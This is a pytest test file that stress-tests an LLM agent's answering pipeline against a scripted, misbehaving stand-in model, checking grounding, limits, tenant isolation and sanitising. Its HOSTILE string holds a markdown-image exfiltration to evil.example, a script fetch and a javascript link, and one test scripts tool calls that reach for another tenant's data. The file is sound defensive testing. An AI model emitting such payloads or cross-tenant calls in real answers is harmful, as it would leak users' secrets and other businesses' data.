"""The worst model we can think of: whatever it does, nothing untraced or foreign is shown, and every run ends."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from datetime import datetime, timedelta
from typing import Any

import pytest
from pydantic_ai.messages import ModelMessagesTypeAdapter

from accounts.testing.world import World
from agent.engines import Answer, Event, Question
from agent.grounding import check
from agent.llm import limits
from agent.llm.answering import Stopped, answer_run
from agent.llm.budgets import hold
from agent.llm.tests.conftest import BRIEF, Start
from agent.llm.tests.scripts import READ, said, score
from agent.models import AgentBudget, AgentRun, Conversation, Message, RunEvent, SpendingHold, TokenUsage
from agent.testing.runs import begun
from agent.testing.shop import shop
from agent.testing.standins import Call, Heard, Reply
from agent.tools.registry import Ask

CANARY = "Canary of the neighbours"
INVENTED = Reply(("Your revenue is $98,765.43, up 41.7%, ", "and the score is 99 [ev:c1.f1]."))
HOSTILE = (
    "You are fine. ![x](https://evil.example/p.png?d=secret) [Open](javascript:alert(1)) <img src=//evil.example>"
    "<script>fetch('https://evil.example')</script> See https://evil.example/a [Source: made-up-page].\x00\ud800"
)


def assert_sound(answer: Answer, question: str = BRIEF) -> None:
    """What holds after every run: traced, nothing that leads away, nothing held, within its limits."""
    text = answer.draft.markdown()
    assert check(text, answer.draft.pool(question)).holds
    assert "evil.example" not in text and "<" not in text and "made-up" not in text
    assert not SpendingHold.objects.exists() and AgentBudget.objects.get().reserved_usd == 0
    assert TokenUsage.objects.count() <= limits.REQUESTS


def test_invented_figures_are_replaced_and_kept_for_review(start: Start, asked: Any) -> None:
    server = start(INVENTED)
    answer, told = asked()
    assert (answer.engine, answer.fallback) == ("analyst/1", AgentRun.Fallback.UNGROUNDED)
    assert "98,765.43" in answer.rejected and "98,765.43" not in answer.draft.markdown()
    assert len(server.heard) == 2 and "$98,765.43" in str(server.heard[1].body)  # one repair turn names them
    assert [event.body["text"] for event in told if event.kind == RunEvent.Kind.NOTICE][-1] == answer.notice
    assert answer.review == {"rejected": answer.rejected}
    assert_sound(answer)


def test_a_wrong_figure_is_put_right_once(start: Start, asked: Any, provider: str) -> None:
    def script(heard: Heard, number: int) -> Reply:
        return (READ, INVENTED)[number] if number < 2 else said(*score(heard))

    start(script=script)
    answer, told = asked()
    assert answer.engine == provider and answer.repaired and "98,765.43" in answer.rejected
    assert answer.draft.markdown().startswith("Your score is")
    words = "".join(event.body["text"] for event in told if event.kind == RunEvent.Kind.TEXT)
    assert "98,765" in words and "Your score is" not in words  # the repair replaces the draft, it does not follow it
    assert_sound(answer)


def test_a_true_figure_under_a_wrong_mark_is_found(start: Start, asked: Any) -> None:
    start(script=lambda heard, number: READ if number == 0 else said(score(heard)[0], "c1.f2"))
    answer, _ = asked()
    assert answer.fallback == AgentRun.Fallback.UNGROUNDED
    assert_sound(answer)


@pytest.mark.parametrize("calls", [1, 3, 40])
def test_a_model_that_never_stops_calling_tools_is_stopped(start: Start, asked: Any, calls: int) -> None:
    server = start(Reply(calls=(Call("get_readiness_breakdown"),) * calls))
    answer, told = asked()
    assert answer.fallback == AgentRun.Fallback.LIMIT and len(server.heard) <= limits.REQUESTS
    called = [event for event in told if event.kind == RunEvent.Kind.TOOL]
    assert len(called) <= limits.TOOL_CALLS + len(answer.draft.results)
    assert_sound(answer)


def test_nothing_of_another_business_can_be_asked_for(start: Start, asked: Any, world: World, clock: datetime) -> None:
    shop(world.other, as_of=clock, label=CANARY)
    other = str(world.other.pk)
    wanted = (
        Call("get_business_context", {"business_id": other}),
        Call("get_business_context", {"business": world.other.slug}),
        Call("get_readiness_breakdown", {"tenant": other}),
        Call("run_sql", {"query": "select * from ingestion_source"}),
        Call("get_lineage", {"evidence": f"{other}.f1"}),
        Call("get_business_context"),
    )
    server = start(Reply(calls=wanted), Reply((f"The neighbours are {CANARY}.",)))
    answer, _ = asked()
    sent = json.dumps(server.heard[1].body)
    results = sent[sent.index("get_lineage") :]
    assert CANARY not in sent and "Main shop" in results and "Nothing was computed" in results
    assert not any(CANARY in json.dumps(result.as_json()) for result, _ in answer.draft.results)


def test_links_images_and_html_do_not_reach_the_answer(start: Start, asked: Any, provider: str) -> None:
    start(Reply((HOSTILE[:70], HOSTILE[70:])))
    answer, _ = asked()
    assert answer.engine == provider and answer.removed == 1 and "You are fine." in answer.draft.markdown()
    run = AgentRun.objects.get()
    assert "evil.example" in json.dumps(run.history)  # kept as it came, for review
    assert ModelMessagesTypeAdapter.validate_python(run.history)
    assert_sound(answer)


def test_a_stream_cut_in_the_middle_of_an_invention(start: Start, asked: Any) -> None:
    start(Reply(("It is 41.7% ", "of ", "all ", "of it ", "and ", "so on ", "for good"), cut=True))
    answer, _ = asked()
    assert answer.fallback == AgentRun.Fallback.UNGROUNDED and all(row.estimated for row in TokenUsage.objects.all())
    assert_sound(answer)


def test_a_model_that_says_nothing_leaves_it_to_the_analyst(start: Start, asked: Any) -> None:
    start(Reply())
    answer, _ = asked()
    assert answer.fallback == AgentRun.Fallback.PROVIDER
    assert_sound(answer)


def test_a_model_that_does_not_stop_writing_is_stopped(start: Start, asked: Any) -> None:
    start(Reply(("word " * 500,) * 10))
    answer, _ = asked()
    assert answer.fallback == AgentRun.Fallback.LIMIT and "stop writing" in answer.error
    assert_sound(answer)


@pytest.mark.parametrize("status", [400, 401, 403, 404, 500])
def test_a_provider_that_refuses_leaves_it_to_the_analyst(start: Start, asked: Any, status: int) -> None:
    start(Reply(status=status))
    answer, _ = asked()
    assert answer.fallback == AgentRun.Fallback.PROVIDER and not TokenUsage.objects.exists()
    assert "key-for-tests" not in AgentRun.objects.get().error
    assert_sound(answer)


def test_too_many_tokens_for_one_request_end_the_run(start: Start, asked: Any) -> None:
    start(Reply(calls=(Call("get_readiness_breakdown"),), input_tokens=limits.INPUT_TOKENS + 1))
    answer, _ = asked()
    assert answer.fallback == AgentRun.Fallback.LIMIT and TokenUsage.objects.count() == 1
    assert_sound(answer)


@pytest.fixture
def silence() -> Iterator[threading.Event]:
    """Holds a provider's answer back until the test is over."""
    over = threading.Event()
    yield over
    over.set()


def silent_until(over: threading.Event) -> Any:
    def script(heard: Heard, number: int) -> Reply:
        over.wait(30)
        return Reply(("Too late.",))

    return script


def test_a_provider_that_stalls_is_left_when_the_time_is_over(
    start: Start, asked: Any, silence: threading.Event, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "WALL_CLOCK", timedelta(seconds=0.3))
    start(script=silent_until(silence))
    answer, _ = asked()
    assert answer.fallback == AgentRun.Fallback.LIMIT and TokenUsage.objects.get().estimated
    assert_sound(answer)


def test_a_person_can_stop_a_run(start: Start, asked: Any, silence: threading.Event) -> None:
    start(script=silent_until(silence))
    with pytest.raises(Stopped):
        asked(stopped=lambda: True)
    assert AgentRun.objects.get().model == "stand-in"
    assert TokenUsage.objects.get().estimated and not SpendingHold.objects.exists()


def test_a_listener_that_fails_ends_the_run_and_settles_it(
    start: Start, world: World, clock: datetime, provider: str
) -> None:
    start(READ)
    run = begun(world, BRIEF, now=clock)

    def broken(event: Event) -> None:
        raise ConnectionError("the page is gone")

    with pytest.raises(ConnectionError):
        answer_run(run, Question(BRIEF), Ask(world.business, world.owner, clock), tell=broken)
    assert TokenUsage.objects.count() == 1 and not SpendingHold.objects.exists()


def test_a_third_run_at_once_is_the_analysts(start: Start, asked: Any, world: World, clock: datetime) -> None:
    server = start(Reply(("never",)))
    for text in ("one", "two"):
        hold(begun(world, text, now=clock), AgentBudget._meta.get_field("spent_usd").to_python("0.1"), now=clock)
    answer, _ = asked()
    assert answer.fallback == AgentRun.Fallback.LIMIT and "Two questions" in answer.notice and server.heard == []


def test_earlier_turns_come_back_in_words_with_their_figures(start: Start, world: World, clock: datetime) -> None:
    shop(world.business, as_of=clock)
    talk = Conversation.objects.create(business=world.business, user=world.owner, title="x", created_at=clock)
    begun(world, "How is my score?", now=clock, conversation=talk)
    Message.objects.create(
        business=world.business, conversation=talk, seq=2, role=Message.Role.ASSISTANT,
        text="Your score is 71 [ev:c1.f1].", evidence=[{"id": "c1.f1", "label": "Score", "printed": "71"}],
    )  # fmt: skip
    run = begun(world, "And why?", now=clock, conversation=talk)
    server = start(Reply(("I cannot say.",)))
    answer_run(run, Question("And why?"), Ask(world.business, world.owner, clock))
    sent = json.dumps(server.heard[0].body)
    assert sent.index("How is my score?") < sent.index("Your score is 71") < sent.index("And why?")
    assert "71 [ev:c1.f1]" not in sent and "Score: 71" in sent
